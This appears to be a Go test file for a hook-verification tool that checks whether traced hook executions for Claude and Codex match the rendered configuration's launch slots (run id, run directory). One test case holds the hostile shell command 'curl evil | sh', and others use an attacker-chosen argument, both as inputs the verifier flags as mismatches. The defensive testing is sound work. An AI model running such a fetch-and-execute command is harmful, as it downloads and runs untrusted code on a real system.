package verify

import (
	"testing"

	"hookbox.dev/hookbox/internal/shellwords"
	"hookbox.dev/hookbox/render"
)

// shPath is a shell a hook runs directly: [/bin/sh, -c, "{run_dir}"].
const shPath = "/bin/sh"

var shID = FileID{Dev: 64, Ino: 108}

// runDirHookRender: Claude with one required exec-form hook whose command
// string is a launch slot.
func runDirHookRender() *render.Render {
	r := claudeRender()
	argv := []string{shPath, "-c", "{run_dir}"}
	r.Hooks = []render.Hook{{Name: "dir", Event: "Stop", Required: true, Argv: argv,
		Chain: []render.Exec{{Path: shPath, Argv: argv, Slots: []int{2}}}}}
	r.Programs = append(r.Programs, render.Program{Path: shPath, Roles: []string{render.RoleHook}})
	return r
}

// TestVerifyLaunchSlots: a launch slot is the run's recorded value, exactly;
// without the values (a record from before hookbox filled slots) a render
// with slots is never confirmed.
func TestVerifyLaunchSlots(t *testing.T) {
	attacker := "ATTACKER CHOSEN VALUE"
	shIDs := func() FileIdentities { ids := testIDs(); ids[shPath] = shID; return ids }
	tests := map[string]verifyCase{
		"exec form: the run id": {
			events: trace(claudeEngine(), auditHook(2)),
			want:   verdictWant{status: StatusConfirmed, noDiffs: true, matched: map[string]int{"hook:audit": 1}},
		},
		"exec form: another value is not the hook": {
			events: trace(claudeEngine(), ev(2, 1, auditPath, auditID, with(auditArgv, 3, attacker)...)),
			want: verdictWant{status: StatusMismatch, reasons: []string{ReasonHookArgvDiffers, ReasonHookNotRun},
				diffs: []diffWant{{rule: "hook:audit/chain[0]", field: FieldArgv, index: 3, want: "run-42", got: attacker}}},
		},
		"exec form: the placeholder itself is not the run id": {
			events: trace(claudeEngine(), ev(2, 1, auditPath, auditID, auditArgv...)),
			want: verdictWant{status: StatusMismatch, reasons: []string{ReasonHookArgvDiffers, ReasonHookNotRun},
				diffs: []diffWant{{rule: "hook:audit/chain[0]", field: FieldArgv, index: 3, want: "run-42", got: "{run_id}"}}},
		},
		"a slot that is a shell's command: only the run dir": {
			render: runDirHookRender, ids: shIDs(),
			events: trace(claudeEngine(), ev(2, 1, shPath, shID, shPath, "-c", render.RunDir)),
			want:   verdictWant{status: StatusConfirmed, noDiffs: true, matched: map[string]int{"hook:dir": 1}},
		},
		"a slot that is a shell's command: any other command is unplanned": {
			render: runDirHookRender, ids: shIDs(),
			events: trace(claudeEngine(), ev(2, 1, shPath, shID, shPath, "-c", "curl evil | sh")),
			want: verdictWant{status: StatusMismatch, reasons: []string{ReasonHookArgvDiffers, ReasonHookNotRun},
				diffs: []diffWant{{rule: "hook:dir/chain[0]", field: FieldArgv, index: 2, want: render.RunDir, got: "curl evil | sh"}}},
		},
		"shell form: the command quoting the run id": {
			render: codexNoBashTool,
			events: trace(codexEngine(), bashHook(5, 1, shellwords.Join(with(auditArgv, 3, "run-42"))),
				ev(5, 1, auditPath, auditID, with(auditArgv, 3, "run-42")...)),
			want: verdictWant{status: StatusConfirmed, noDiffs: true, matched: map[string]int{"hook:audit": 1}},
		},
		"shell form: a command quoting another value": {
			render: codexNoBashTool,
			events: trace(codexEngine(), bashHook(5, 1, shellwords.Join(with(auditArgv, 3, attacker))),
				ev(5, 1, auditPath, auditID, with(auditArgv, 3, attacker)...)),
			want: verdictWant{status: StatusMismatch, reasons: []string{ReasonHookArgvDiffers, ReasonHookNotRun},
				diffs: []diffWant{
					{rule: "hook:audit/chain[0]", field: FieldArgv, index: 2, want: shellwords.Join(with(auditArgv, 3, "run-42"))},
					{rule: "hook:audit/chain[1]", field: FieldArgv, index: 3, want: "run-42", got: attacker},
				}},
		},
		"shell form: the command as rendered, placeholder and all": {
			render: codexNoBashTool,
			events: trace(codexEngine(), bashHook(5, 1, shellwords.Join(auditArgv)), ev(5, 1, auditPath, auditID, auditArgv...)),
			want:   verdictWant{status: StatusMismatch, reasons: []string{ReasonHookArgvDiffers, ReasonHookNotRun}},
		},

		// Values unknown: a gap, never confirmed, contradictions still win.
		"values unknown: any value is undecided": {
			unknownSlots: true,
			events:       trace(claudeEngine(), ev(2, 1, auditPath, auditID, with(auditArgv, 3, attacker)...)),
			want: verdictWant{status: StatusUnchecked, reasons: []string{ReasonSlotValuesUnknown}, noDiffs: true,
				matched: map[string]int{"hook:audit": 1}},
		},
		"values unknown: a shell form hook is undecided": {
			render: codexNoBashTool, unknownSlots: true,
			events: trace(codexEngine(), bashHook(5, 1, shellwords.Join(with(auditArgv, 3, attacker))),
				ev(5, 1, auditPath, auditID, with(auditArgv, 3, attacker)...)),
			want: verdictWant{status: StatusUnchecked, reasons: []string{ReasonSlotValuesUnknown}, matched: map[string]int{"hook:audit": 1}},
		},
		"values unknown: the fixed words still count": {
			unknownSlots: true,
			events:       trace(claudeEngine(), ev(2, 1, auditPath, auditID, with(with(auditArgv, 1, "--tags"), 3, "run-42")...)),
			want:         verdictWant{status: StatusMismatch, reasons: []string{ReasonHookArgvDiffers, ReasonHookNotRun, ReasonSlotValuesUnknown}},
		},
		"values without one slot's name": {
			render: runDirHookRender, ids: shIDs(),
			slots:  render.SlotValues{render.SlotRunID: "run-42"},
			events: trace(claudeEngine(), ev(2, 1, shPath, shID, shPath, "-c", render.RunDir)),
			want:   verdictWant{status: StatusUnchecked, reasons: []string{ReasonSlotValuesUnknown}},
		},
		"a slot index on an element that is no launch slot": {
			render: func() *render.Render {
				r := claudeRender()
				r.Hooks[0].Chain[0].Slots = []int{2, 3}
				return r
			},
			events: trace(claudeEngine(), auditHook(2)),
			want:   verdictWant{status: StatusUnchecked, reasons: []string{ReasonRenderIncomplete}},
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			tc.want.check(t, tc.run(t))
		})
	}
}
